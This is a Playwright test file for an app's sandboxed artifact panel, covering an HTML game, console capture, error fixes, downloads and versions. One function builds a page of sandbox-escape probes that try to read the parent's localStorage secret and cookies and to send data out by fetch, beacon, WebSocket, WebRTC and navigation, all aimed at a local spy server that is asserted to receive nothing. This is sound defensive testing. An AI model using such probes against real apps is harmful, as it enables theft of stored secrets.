/**
 * Artifacts in real Chromium: a model-written page runs in the panel's sandboxed iframe, its console
 * reaches the console pane, and nothing it tries can reach the app, its storage or the network.
 */
import { createServer, type Server } from 'node:http';
import { createSocket, type Socket } from 'node:dgram';
import type { AddressInfo, Socket as NetSocket } from 'node:net';
import { readFile } from 'node:fs/promises';
import { test as base, expect, type Page } from '@playwright/test';
import type { Artifact } from '../../src/artifacts/detect';

interface Spy {
  /** http://127.0.0.1:port, where nothing the artifact does may arrive */
  url: string;
  /** a UDP port on 127.0.0.1, for the STUN requests WebRTC would send past the CSP */
  udpPort: number;
  /** everything that reached the spy: HTTP requests, WebSocket upgrades, malformed bytes, datagrams */
  seen: string[];
  /**
   * TCP connections opened without a byte sent. Chromium opens one when a frame navigation starts,
   * before the CSP check that then blocks it; no page can prevent that, and nothing goes over it.
   */
  connections: number;
}

/** A server on another port that records whatever reaches it. */
const test = base.extend<{ spy: Spy }>({
  spy: async ({}, use) => {
    const seen: string[] = [];
    const sockets = new Set<NetSocket>();
    let connections = 0;
    const http: Server = createServer((req, res) => {
      seen.push(`${req.method} ${req.url}`);
      res.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/plain' });
      res.end('reached');
    });
    http.on('connection', (s: NetSocket) => {
      connections++;
      sockets.add(s);
      s.on('close', () => sockets.delete(s));
    });
    // Bytes that are no valid HTTP still count.
    http.on('clientError', (e: Error, socket: NetSocket) => {
      seen.push(`bad request: ${e.message}`);
      socket.destroy();
    });
    http.on('upgrade', (req, socket: NetSocket) => {
      seen.push(`UPGRADE ${req.url}`);
      socket.destroy();
    });
    await new Promise<void>((r) => http.listen(0, '127.0.0.1', r));
    const udp: Socket = createSocket('udp4');
    udp.on('message', (m) => seen.push(`UDP ${m.length} bytes`));
    await new Promise<void>((r) => udp.bind(0, '127.0.0.1', r));
    const spy: Spy = {
      url: `http://127.0.0.1:${(http.address() as AddressInfo).port}`,
      udpPort: udp.address().port,
      seen,
      connections: 0,
    };
    Object.defineProperty(spy, 'connections', { get: () => connections });
    await use(spy);
    sockets.forEach((s) => s.destroy());
    await new Promise<void>((r) => http.close(() => r()));
    await new Promise<void>((r) => udp.close(() => r()));
  },
});

async function mount(page: Page, markdown: string): Promise<Artifact[]> {
  await page.goto('/tests/harness/artifacts.html');
  await page.waitForSelector('body[data-ready="1"]', { state: 'attached' });
  return page.evaluate((md) => window.artifactsHarness.mount(md), markdown);
}

const html = (doc: string, heading = 'A page') => `# ${heading}\n\nHere it is:\n\n\`\`\`html\n${doc}\n\`\`\`\n`;
const consoleLines = (page: Page) => page.getByTestId('artifact-console-lines');

const GAME = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Click Catcher</title>
<style>canvas { border: 1px solid #333; } #score { font: 20px sans-serif; }</style>
</head>
<body>
<h1 id="status">Loading…</h1>
<canvas id="game" width="320" height="200"></canvas>
<button id="start">Start</button>
<span id="score">0</span>
<script>
const canvas = document.getElementById('game');
const ctx = canvas.getContext('2d');
let frames = 0;
let score = 0;
document.getElementById('status').textContent = 'Ready';
document.getElementById('start').addEventListener('click', () => {
  score++;
  document.getElementById('score').textContent = String(score);
  console.log('started', { score });
});
function loop() {
  frames++;
  ctx.fillStyle = frames % 2 ? '#e33' : '#33e';
  ctx.fillRect(frames % 300, 80, 20, 20);
  if (frames === 10) {
    document.body.dataset.frames = '10';
    console.log('frames reached', frames);
  }
  requestAnimationFrame(loop);
}
requestAnimationFrame(loop);
const cyclic = { name: 'node', list: [1, 2n, undefined] };
cyclic.self = cyclic;
console.log('game loaded');
console.info('info line');
console.warn('warn line');
console.debug('cyclic', cyclic);
console.error(new TypeError('logged, not thrown'));
</script>
</body>
</html>`;

test('an HTML game runs in the sandboxed iframe and its console reaches the pane', async ({ page }) => {
  const [artifact] = await mount(page, html(GAME));
  expect(artifact!.title).toBe('Click Catcher');
  const iframe = page.locator('iframe');
  await expect(iframe).toHaveAttribute('sandbox', 'allow-scripts');
  await expect(iframe).toHaveAttribute('referrerpolicy', 'no-referrer');
  await expect(iframe).toHaveAttribute('allow', '');
  await expect(iframe).toHaveAttribute('credentialless', '');

  const frame = page.frameLocator('iframe');
  // The policy is the first thing in the parsed <head>, ahead of the game's own <meta charset>.
  await expect(frame.locator('head > :first-child')).toHaveAttribute('http-equiv', 'Content-Security-Policy');
  await expect(frame.locator('head > meta[http-equiv="Content-Security-Policy"]')).toHaveCount(1);
  await expect(frame.locator('html')).toHaveAttribute('lang', 'en');
  await expect(frame.locator('#status')).toHaveText('Ready');
  await expect(frame.locator('canvas#game')).toBeVisible();
  await expect(frame.locator('body')).toHaveAttribute('data-frames', '10');
  await frame.locator('#start').click();
  await expect(frame.locator('#score')).toHaveText('1');

  const lines = consoleLines(page);
  await expect(lines).toContainText('game loaded');
  await expect(lines).toContainText('frames reached 10');
  await expect(lines).toContainText('started {"score":1}');
  await expect(lines.locator('[data-level="info"]')).toHaveText('info line');
  await expect(lines.locator('[data-level="warn"]')).toHaveText('warn line');
  await expect(lines.locator('[data-level="debug"]')).toHaveText(
    'cyclic {"name":"node","list":[1,"2n","[undefined]"],"self":"[Circular]"}',
  );
  await expect(lines.locator('[data-level="error"]')).toContainText('TypeError: logged, not thrown');
  // A logged error is not an uncaught one: nothing to fix.
  await expect(page.getByTestId('artifact-fix')).toHaveCount(0);

  await page.getByTestId('artifact-console-clear').click();
  await expect(lines).not.toContainText('game loaded');
  await frame.locator('#start').click();
  await expect(lines).toContainText('started {"score":2}');
});

test('a page the model spread over CSS and JS blocks runs as one', async ({ page }) => {
  const css = 'body { background: rgb(1, 2, 3); }';
  const js =
    "const canvas = document.getElementById('board');\nconst ctx = canvas.getContext('2d');\nctx.fillRect(0, 0, 10, 10);\ndocument.body.dataset.drawn = String(ctx.getImageData(5, 5, 1, 1).data[3]);\nconsole.log('drawn');";
  const [artifact] = await mount(page, `# Pixel\n\n\`\`\`css\n${css}\n\`\`\`\n\n\`\`\`js\n${js}\n\`\`\`\n`);
  expect(artifact!.kind).toBe('page');
  await expect(page.getByTestId('artifact-title')).toHaveText('Pixel');
  const frame = page.frameLocator('iframe');
  await expect(frame.locator('canvas#board')).toBeAttached();
  await expect(frame.locator('body')).toHaveAttribute('data-drawn', '255');
  await expect(frame.locator('body')).toHaveCSS('background-color', 'rgb(1, 2, 3)');
  await expect(consoleLines(page)).toContainText('drawn');
});

const BROKEN = `<!DOCTYPE html>
<html>
<head><title>Broken</title></head>
<body>
<p id="p">text</p>
<script>
console.log('before the error');
Promise.reject(new Error('async nope'));
undefinedFunction();
</script>
</body>
</html>`;

test('uncaught errors and rejections show, and "Ask the model to fix it" sends them with the source', async ({
  page,
}) => {
  const [artifact] = await mount(page, html(BROKEN));
  const lines = consoleLines(page);
  await expect(lines).toContainText('before the error');
  const uncaught = lines.locator('[data-level="uncaught"]');
  await expect(uncaught.filter({ hasText: 'ReferenceError: undefinedFunction is not defined' })).toHaveCount(1);
  await expect(uncaught.filter({ hasText: 'Unhandled promise rejection: Error: async nope' })).toHaveCount(1);
  // The line is that of the source the model wrote, not of the document with the capture script.
  const line = artifact!.source.split('\n').findIndex((l) => l.startsWith('undefinedFunction')) + 1;
  await expect(uncaught.filter({ hasText: 'ReferenceError' })).toContainText(`line ${line}`);

  await page.getByTestId('artifact-fix').click();
  const fixes = await page.evaluate(() => window.artifactsHarness.fixes);
  expect(fixes).toHaveLength(1);
  expect(fixes[0]!.error).toContain('ReferenceError: undefinedFunction is not defined');
  expect(fixes[0]!.error).toContain('async nope');
  expect(fixes[0]!.source).toBe(artifact!.source);
});

/**
 * Every way out of the sandbox we know of, each reporting its outcome with console.log. The spy
 * server must see nothing at all; the ones that cannot report (navigation) are checked app-side.
 */
function attackPage(spy: Spy): string {
  // WebRTC from a nested frame's fresh window, which the artifact's console script does not reach.
  const stun = `const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${spy.udpPort}' }] }); pc.createDataChannel('x'); pc.createOffer().then((o) => pc.setLocalDescription(o));`;
  const rtcFrame = `<iframe srcdoc="${attribute(`<script>${stun}</script>`)}"></iframe>`;
  return `<!DOCTYPE html>
<html>
<head>
<title>Escape attempts</title>
<link rel="prefetch" href="${spy.url}/link-prefetch">
<link rel="preconnect" href="${spy.url}">
<link rel="stylesheet" href="${spy.url}/link-stylesheet.css">
<style>
@import url("${spy.url}/css-import.css");
@font-face { font-family: spy; src: url("${spy.url}/font.woff2"); }
body { background-image: url("${spy.url}/css-background.png"); font-family: spy; }
</style>
<script src="${spy.url}/script-src.js"></script>
</head>
<body>
<img src="${spy.url}/img-tag.png" alt="">
<video src="${spy.url}/video.mp4"></video>
<object data="${spy.url}/object"></object>
<iframe src="${spy.url}/iframe"></iframe>
${rtcFrame}
<form id="f" action="${spy.url}/form" method="post"><input name="secret" value="x"></form>
<form id="fb" action="${spy.url}/form-blank" method="post" target="_blank"></form>
<a id="a" href="${spy.url}/anchor-blank" target="_blank">link</a>
<a id="dl" href="${spy.url}/download" download>download</a>
<script>
const SPY = ${JSON.stringify(spy.url)};
const report = (name, outcome) => console.log('probe ' + name + ': ' + outcome);
const attempt = (name, fn) => { try { report(name, 'returned ' + String(fn())); } catch (e) { report(name, 'threw ' + e.name); } };
const settle = (name, fn) => new Promise((resolve) => resolve(fn())).then((v) => report(name, 'resolved ' + String(v)), (e) => report(name, 'rejected ' + (e && e.name)));

attempt('parent.document', () => parent.document.title);
attempt('top.document', () => top.document.title);
attempt('parent.localStorage', () => parent.localStorage.getItem('app-secret'));
attempt('localStorage', () => localStorage.getItem('app-secret'));
attempt('sessionStorage', () => sessionStorage.getItem('app-secret'));
attempt('document.cookie', () => { document.cookie = 'artifact=1'; return JSON.stringify(document.cookie); });
attempt('indexedDB.open', () => {
  const r = indexedDB.open('artifact-probe');
  r.onsuccess = () => report('indexedDB.onsuccess', 'opened');
  r.onerror = () => report('indexedDB.onerror', r.error && r.error.name);
  return 'request';
});
settle('caches.open', () => caches.open('x'));
settle('serviceWorker.register', () => navigator.serviceWorker.register('/sw.js'));

settle('fetch', () => fetch(SPY + '/fetch'));
settle('fetch no-cors', () => fetch(SPY + '/fetch-no-cors', { mode: 'no-cors' }));
attempt('XMLHttpRequest', () => { const x = new XMLHttpRequest(); x.open('GET', SPY + '/xhr'); x.send(); return 'sent'; });
attempt('Image', () => { const i = new Image(); i.src = SPY + '/image'; return 'set'; });
attempt('link prefetch', () => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = SPY + '/prefetch'; document.head.append(l); return 'appended'; });
attempt('sendBeacon', () => navigator.sendBeacon(SPY + '/beacon', 'secret'));
attempt('WebSocket', () => { const w = new WebSocket(SPY.replace('http', 'ws') + '/ws'); w.onopen = () => report('WebSocket.onopen', 'open'); return 'created'; });
attempt('EventSource', () => { const s = new EventSource(SPY + '/sse'); s.onopen = () => report('EventSource.onopen', 'open'); return 'created'; });
settle('import()', () => import(SPY + '/dynamic-import.js'));
attempt('Worker', () => { const w = new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(SPY + '/worker-fetch') + ')'], { type: 'text/javascript' }))); return 'created'; });
attempt('nested about:blank fetch', () => {
  const f = document.createElement('iframe');
  document.body.append(f);
  return f.contentWindow.fetch(SPY + '/nested-fetch').then(() => report('nested fetch', 'resolved'), (e) => report('nested fetch', 'rejected ' + e.name)) && 'called';
});
attempt('RTCPeerConnection', () => { ${stun} return 'created'; });
attempt('webkitRTCPeerConnection', () => new webkitRTCPeerConnection({}) && 'created');
attempt('nested srcdoc frame', () => {
  document.body.insertAdjacentHTML('beforeend', ${script(rtcFrame)});
  // Keep the parent busy, so that a frame not removed at once would have time to run.
  const until = Date.now() + 300;
  while (Date.now() < until);
  return 'inserted';
});
attempt('frame in shadow root', () => { document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' }).innerHTML = ${script(rtcFrame)}; return 'inserted'; });
attempt('window.open', () => window.open(SPY + '/window-open'));
attempt('anchor target=_blank', () => { document.getElementById('a').click(); return 'clicked'; });
attempt('form target=_blank', () => { document.getElementById('fb').submit(); return 'submitted'; });
attempt('top.location', () => { top.location = SPY + '/top-location'; return 'assigned'; });
attempt('top.location.href', () => { top.location.href = SPY + '/top-location-href'; return 'assigned'; });
attempt('parent.location.replace', () => { parent.location.replace(SPY + '/parent-replace'); return 'called'; });
report('done', 'all probes started');
// These would replace this document if they got through, so they go last.
setTimeout(() => {
  attempt('anchor download', () => { document.getElementById('dl').click(); return 'clicked'; });
  attempt('form submit', () => { document.getElementById('f').submit(); return 'submitted'; });
  report('late', 'all probes ran');
}, 300);
</script>
</body>
</html>`;
}

/** A string literal that can sit inside a <script> element. */
function script(text: string): string {
  return JSON.stringify(text).replace(/</g, '\\u003c');
}

function attribute(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/"/g, '&quot;');
}

test('nothing inside the artifact reaches the app, its storage or the network', async ({ page, context, spy }) => {
  await page.goto('/tests/harness/artifacts.html');
  await page.evaluate(() => {
    localStorage.setItem('app-secret', 'app-local');
    sessionStorage.setItem('app-secret', 'app-session');
    document.cookie = 'app-cookie=secret; path=/';
  });
  const appUrl = page.url();
  await mount(page, html(attackPage(spy), 'Escape attempts'));
  const lines = consoleLines(page);
  await expect(lines).toContainText('probe done: all probes started');
  await expect(lines).toContainText('probe late: all probes ran');

  const expected: [string, RegExp][] = [
    ['parent.document', /threw SecurityError/],
    ['top.document', /threw SecurityError/],
    ['parent.localStorage', /threw SecurityError/],
    ['localStorage', /threw SecurityError/],
    ['sessionStorage', /threw SecurityError/],
    ['document.cookie', /threw SecurityError|returned ""/],
    ['indexedDB', /threw SecurityError|onerror/],
    ['caches.open', /rejected/],
    ['serviceWorker.register', /rejected/],
    ['fetch', /rejected TypeError/],
    ['fetch no-cors', /rejected TypeError/],
    ['import()', /rejected TypeError/],
    ['window.open', /returned null/],
    ['RTCPeerConnection', /threw Error/],
    ['webkitRTCPeerConnection', /threw Error/],
    ['form submit', /submitted|threw/],
  ];
  for (const [name, outcome] of expected) {
    await expect
      .soft(
        lines
          .locator('li')
          .filter({ hasText: `probe ${name}` })
          .first(),
        name,
      )
      .toContainText(outcome, { timeout: 5000 });
  }
  // Give every request that might have been sent time to arrive.
  await page.waitForTimeout(2500);
  expect(spy.seen).toEqual([]);
  await expect(lines).not.toContainText('indexedDB.onsuccess');
  await expect(lines).not.toContainText('app-local');
  await expect(lines).not.toContainText('app-session');
  await expect(lines).not.toContainText('secret');
  await expect(lines).not.toContainText('.onopen');
  await expect(lines).not.toContainText('nested fetch: resolved');
  await expect(lines).toContainText('Nested frames are disabled in artifacts.');
  await expect(lines).toContainText(`Links do not open from artifacts: ${spy.url}/download`);

  // Only the <iframe src> starts a navigation (blocked); links are stopped before they would.
  expect(spy.connections).toBeLessThanOrEqual(1);
  expect(page.url()).toBe(appUrl);
  expect(context.pages()).toHaveLength(1);
  expect(await page.evaluate(() => [localStorage.getItem('app-secret'), sessionStorage.getItem('app-secret')])).toEqual(
    ['app-local', 'app-session'],
  );
  expect(await page.evaluate(() => document.cookie)).toContain('app-cookie=secret');
  expect(await page.evaluate(() => document.cookie)).not.toContain('artifact=1');
  // The artifact is still there: no navigation replaced it.
  await expect(page.frameLocator('iframe').locator('#f')).toBeAttached();
});

test('an artifact cannot navigate itself to the network', async ({ page, spy }) => {
  const attempts = {
    'location.href': `<script>location.href = '${spy.url}/location-href';</script>`,
    'location.replace': `<script>setTimeout(() => location.replace('${spy.url}/location-replace'), 100);</script>`,
    'meta refresh': `<meta http-equiv="refresh" content="0;url=${spy.url}/meta-refresh">`,
    'window.open _self': `<script>window.open('${spy.url}/open-self', '_self');</script>`,
    'anchor dispatchEvent': `<a id="a" href="${spy.url}/anchor">x</a><script>document.getElementById('a').dispatchEvent(new MouseEvent('click'));</script>`,
  };
  await page.goto('/tests/harness/artifacts.html');
  const appUrl = page.url();
  for (const [name, body] of Object.entries(attempts)) {
    await mount(page, html(`<!DOCTYPE html><html><head><title>${name}</title></head><body>${body}</body></html>`));
    await page.waitForTimeout(1000);
    expect(
      page
        .frames()
        .map((f) => f.url())
        .filter((u) => u.startsWith(spy.url)),
      name,
    ).toEqual([]);
  }
  expect(spy.seen).toEqual([]);
  expect(page.url()).toBe(appUrl);
});

const ECHO = `<!DOCTYPE html>
<html>
<head><title>Echo</title></head>
<body>
<button id="ping">ping</button>
<script>
let n = 0;
document.getElementById('ping').addEventListener('click', () => {
  // The artifact does not know its channel, so it can only guess one.
  parent.postMessage({ channel: 'artifact-guess', type: 'console', level: 'log', text: 'forged by the artifact' }, '*');
  console.log('pong ' + ++n);
});
console.log('echo ready');
</script>
</body>
</html>`;

test('messages from the app window, other frames or with a wrong channel are ignored', async ({ page }) => {
  await mount(page, html(ECHO));
  const lines = consoleLines(page);
  await expect(lines).toContainText('echo ready');
  const channel = await page.locator('iframe').getAttribute('data-channel');
  expect(channel).toMatch(/^artifact-[0-9a-f]{32}$/);

  await page.evaluate((channel) => {
    const forged = (text: string) => ({ channel, type: 'console', level: 'log', text });
    window.postMessage(forged('forged by the app window'), '*');
    window.postMessage({ channel, type: 'error', text: 'forged error', line: 1, col: 1 }, '*');
    const other = document.createElement('iframe');
    other.id = 'other';
    other.setAttribute('sandbox', 'allow-scripts');
    other.srcdoc = `<script>parent.postMessage(${JSON.stringify(forged('forged by another frame'))}, '*'); document.title = 'sent';</script>`;
    document.body.append(other);
  }, channel);
  await page.waitForTimeout(300);
  await page.frameLocator('iframe[data-channel]').locator('#ping').click();
  await expect(lines).toContainText('pong 1');
  await expect(lines).not.toContainText('forged');
  await expect(page.getByTestId('artifact-fix')).toHaveCount(0);
});

test.describe('download and copy', () => {
  test.use({ permissions: ['clipboard-read', 'clipboard-write'] });

  test('Download saves the page as written, named from its title; Copy source puts the source on the clipboard', async ({
    page,
  }) => {
    const [artifact] = await mount(page, html(GAME));
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByTestId('artifact-download').click(),
    ]);
    expect(download.suggestedFilename()).toBe('Click-Catcher.html');
    const saved = await readFile(await download.path(), 'utf8');
    // The user's own file: no policy injected, no second <html><head>, no console capture.
    expect(saved).toBe(`\uFEFF${artifact!.source}`);
    expect(saved).not.toContain('Content-Security-Policy');

    // A fragment without a title or heading: one document, and a name that says so.
    await mount(page, '```html\n<button id="b">Press</button>\n```\n');
    const [untitled] = await Promise.all([
      page.waitForEvent('download'),
      page.getByTestId('artifact-download').click(),
    ]);
    expect(untitled.suggestedFilename()).toBe('untitled-page.html');
    const doc = await readFile(await untitled.path(), 'utf8');
    expect(doc.match(/<html/g)).toHaveLength(1);
    expect(doc.match(/<head/g)).toHaveLength(1);
    await mount(page, html(GAME));

    await page.getByTestId('artifact-copy').click();
    await expect(page.getByTestId('artifact-note')).toHaveText('Copied');
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(artifact!.source);
  });
});

test('versions, reload, full screen and close', async ({ page }) => {
  const message = `# Two things\n\n${html(ECHO)}\nand an icon:\n\n\`\`\`svg\n<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><title>Dot</title><circle id="dot" cx="20" cy="20" r="10"/></svg>\n\`\`\`\n`;
  const versions = await mount(page, message);
  expect(versions.map((v) => v.kind)).toEqual(['html', 'svg']);
  await expect(page.getByTestId('artifact-version')).toHaveText('1 / 2');
  await expect(page.getByTestId('artifact-title')).toHaveText('Echo');

  const lines = consoleLines(page);
  await expect(lines).toContainText('echo ready');
  const first = await page.locator('iframe').getAttribute('data-channel');
  await page.getByTestId('artifact-reload').click();
  await expect(page.locator('iframe')).toHaveCount(1);
  await expect(page.locator('iframe')).not.toHaveAttribute('data-channel', first!);
  // A fresh run: the console starts over and shows the new run's output once.
  await expect(lines.locator('li', { hasText: 'echo ready' })).toHaveCount(1);

  await page.getByTestId('artifact-fullscreen').click();
  const panel = page.getByTestId('artifact-panel');
  await expect(panel).toHaveClass(/fullscreen/);
  const box = await panel.boundingBox();
  expect(box).toEqual({ x: 0, y: 0, width: page.viewportSize()!.width, height: page.viewportSize()!.height });
  // Esc leaves full screen also while the artifact has the keyboard.
  await page.frameLocator('iframe').locator('#ping').focus();
  await page.keyboard.press('Escape');
  await expect(panel).not.toHaveClass(/fullscreen/);
  await page.getByTestId('artifact-fullscreen').click();
  await page.locator('body').press('Escape');
  await expect(panel).not.toHaveClass(/fullscreen/);

  await page.getByTestId('artifact-next').click();
  await expect(page.getByTestId('artifact-version')).toHaveText('2 / 2');
  await expect(page.getByTestId('artifact-title')).toHaveText('Dot');
  await expect(page.frameLocator('iframe').locator('svg circle#dot')).toBeVisible();
  await expect(page.getByTestId('artifact-next')).toBeDisabled();

  await page.getByTestId('artifact-close').click();
  await expect(page.getByTestId('artifact-panel')).toHaveCount(0);
  expect(await page.evaluate(() => window.artifactsHarness.closed())).toBe(1);
});
